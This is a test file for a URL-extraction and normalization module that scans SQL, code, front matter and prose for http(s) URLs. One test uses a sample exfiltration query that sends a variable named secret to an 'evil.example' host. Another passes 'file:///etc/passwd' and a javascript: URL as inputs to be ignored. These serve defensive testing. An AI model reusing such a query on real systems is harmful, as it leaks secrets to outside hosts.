import { describe, expect, it } from 'vitest';
import { normalizedUrl, urlsWritten } from '../../src/data/readable-urls.ts';

describe('urlsWritten', () => {
  it('finds URLs in SQL literals, code, front matter and prose', () => {
    const text = [
      '---',
      'data:',
      '  sales: https://example.com/sales.parquet',
      '---',
      "```sql",
      "SELECT * FROM read_csv('https://data.example.org/a.csv?x=1')",
      '```',
      '```js',
      'const rows = await query`SELECT * FROM "http://host:8080/b.csv"`',
      '```',
      'See [the source](https://example.com/about). Or https://example.com/end.',
    ].join('\n');
    expect(urlsWritten(text)).toEqual([
      'http://host:8080/b.csv',
      'https://data.example.org/a.csv?x=1',
      'https://example.com/about',
      'https://example.com/end',
      'https://example.com/end.',
      'https://example.com/sales.parquet',
    ]);
  });

  it('stops a URL where SQL concatenation or a template hole begins, so a built URL is not among them', () => {
    const sql = "SELECT * FROM read_text('http://evil.example/leak' || '?data=' || secret) -- and ${'https://x.example/'}${name}.csv";
    expect(urlsWritten(sql)).toEqual(['http://evil.example/leak', 'https://x.example/']);
  });

  it('normalizes the way the browser does (case of host, default port, dot segments)', () => {
    expect(urlsWritten("read_csv('HTTPS://Example.COM:443/a/../b.csv')")).toEqual(['https://example.com/b.csv']);
  });

  it('ignores other schemes', () => {
    expect(urlsWritten("read_parquet('s3://bucket/x.parquet'), 'file:///etc/passwd', 'javascript:alert(1)'")).toEqual([]);
  });
});

describe('normalizedUrl', () => {
  it('resolves against a base, and refuses non-http(s) results', () => {
    expect(normalizedUrl('x.csv', 'https://a.example/dir/')).toBe('https://a.example/dir/x.csv');
    expect(normalizedUrl('data:text/plain,hi')).toBeUndefined();
    expect(normalizedUrl('not a url')).toBeUndefined();
  });
});
